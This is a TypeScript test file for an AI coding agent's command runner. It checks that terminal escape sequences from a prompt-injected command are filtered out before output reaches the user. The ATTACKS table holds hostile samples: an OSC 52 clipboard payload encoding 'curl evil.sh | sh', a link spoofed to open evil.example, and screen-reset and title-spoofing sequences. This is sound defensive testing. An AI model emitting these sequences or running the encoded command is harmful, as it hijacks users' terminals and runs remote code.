/**
 * Issue 31, item 5: the terminal stays the user's. A command (prompt-injected `npm test`) prints
 * OSC 52 (VS Code writes the clipboard: a paste hijack), an OSC 8 link showing one address and
 * opening another, a window title, clear-screen and full reset, a cursor jump onto Arcadia's
 * header, bracketed-paste mode and a device-control string. What reaches the terminal (the
 * runner's output, as the agent's commands terminal shows it) has none of them and keeps the
 * colours and the progress bar. The same script's raw bytes, read without Arcadia's runner, have
 * every one (the test can fail); a sequence cut between two writes is caught too.
 */
import { execFileSync } from "node:child_process";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { ProcessCommandRunner } from "../../../src/core/tools/processCommandRunner";
import { InertTerminalOutput } from "../../../src/core/tools/inertTerminalOutput";
import { useTempDirs } from "../../support/tempDir";

const tempDir = useTempDirs();

const ATTACKS: Record<string, string> = {
  "OSC 52 clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
  "OSC 8 link": "\x1b]8;;https://evil.example/\x1b\\https://github.com/\x1b]8;;\x1b\\",
  "window title": "\x1b]0;sudo needed\x07",
  "clear screen": "\x1b[2J\x1b[3J",
  "full reset": "\x1bc",
  "cursor jump": "\x1b[1;1H",
  "bracketed paste off": "\x1b[?2004l",
  "device control": "\x1bP+q544e\x1b\\",
  "C1 OSC": "\u009d0;title\u0007",
};
const KEPT = "\x1b[32mPASS\x1b[0m 10%\r\x1b[K20%\x1b[1A\n";

/** The script prints each attack, then coloured text and a progress bar, half of one sequence per write. */
function script(folder: string): string {
  const path = join(folder, "print.js");
  const all = Object.values(ATTACKS).join("") + KEPT;
  const cut = all.indexOf("52;");
  writeFileSync(
    path,
    `process.stdout.write(${JSON.stringify(all.slice(0, cut))}); setTimeout(() => process.stdout.write(${JSON.stringify(all.slice(cut))}), 50);`,
  );
  return path;
}

describe("what a command prints, on its way to the user's terminal", () => {
  it("the raw bytes carry every sequence (the test can fail)", () => {
    const raw = execFileSync(process.execPath, [script(tempDir())], { encoding: "utf8" });
    for (const [name, sequence] of Object.entries(ATTACKS)) expect(raw, name).toContain(sequence);
  });

  it("through Arcadia's runner: none of them, colours and the progress bar kept", async () => {
    const shown: string[] = [];
    const runner = new ProcessCommandRunner({ onOutput: (_id, chunk) => shown.push(chunk) });
    const folder = tempDir();
    const handle = await runner.start({ command: "node print.js", cwd: folder, argv: [process.execPath, script(folder)] });
    await handle.ended;
    const text = shown.join("");
    for (const [name, sequence] of Object.entries(ATTACKS)) expect(text, name).not.toContain(sequence);
    // eslint-disable-next-line no-control-regex -- the sequences are what is looked for
    expect(text).not.toMatch(/\x1b\]|\x1b\[\?|\x1b\[[0-9;]*[HJ]|\x1bc|\x1bP|\u009d/);
    expect(text).toContain(KEPT);
    expect(runner.partialOutput(handle.id).output).toBe(text);
    runner.dispose();
  });
});

describe("the filter", () => {
  it("holds a sequence cut anywhere between chunks, and never loses the text around it", () => {
    const all = `before ${ATTACKS["OSC 52 clipboard"]} middle ${ATTACKS["OSC 8 link"]} after${KEPT}`;
    for (let cut = 0; cut <= all.length; cut++) {
      const inert = new InertTerminalOutput();
      const text = inert.push(all.slice(0, cut)) + inert.push(all.slice(cut)) + inert.flush();
      expect(text, `cut at ${cut}`).toBe(`before  middle https://github.com/ after${KEPT}`);
    }
  });

  it("an unfinished sequence at the end is shown as inert text, not swallowed", () => {
    const inert = new InertTerminalOutput();
    expect(inert.push("ok \x1b]0;never ends")).toBe("ok ");
    expect(inert.flush()).toBe("]0;never ends");
  });
});
